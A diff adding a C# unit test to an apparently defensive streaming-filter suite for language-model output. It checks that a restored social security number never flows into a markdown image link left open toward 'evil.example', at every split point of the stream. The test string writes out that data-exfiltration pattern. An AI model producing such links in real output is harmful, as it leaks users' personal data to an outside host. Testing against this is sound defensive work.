@@ -71,6 +71,20 @@ public sealed class StreamSplitTests : IAsyncLifetime
         (await Bench.StreamAsync(script.Format, script.Request, script.Stream(text => Runes(text)))).AssertSame(whole, "character by character");
     }
 
+    [Fact]
+    public async Task An_address_that_one_block_leaves_open_takes_no_value_in_the_next_at_every_split()
+    {
+        const string text = "q <SSN_1>) ![x](https://evil.example/?d=";
+        var script = new Script(Of("messages"), false, text, ("lookup", "{}"));
+        var whole = await Bench.WholeAsync(script.Format, script.Request, script.Whole);
+        Assert.Equal($"q {Ssn}) ![x](https://evil.example/?d=", whole.Texts.Values.First());
+        Assert.DoesNotContain(Ssn, whole.Texts.Values.Last(), StringComparison.Ordinal);
+        for (var at = 0; at <= text.Length; at++)
+        {
+            (await Bench.StreamAsync(script.Format, script.Request, script.Stream(piece => Cut(piece, at)))).AssertSame(whole, $"cut after character {at}");
+        }
+    }
+
     [Theory]
     [MemberData(nameof(Formats))]
     public async Task A_refused_call_among_others_is_refused_at_every_split(string format)
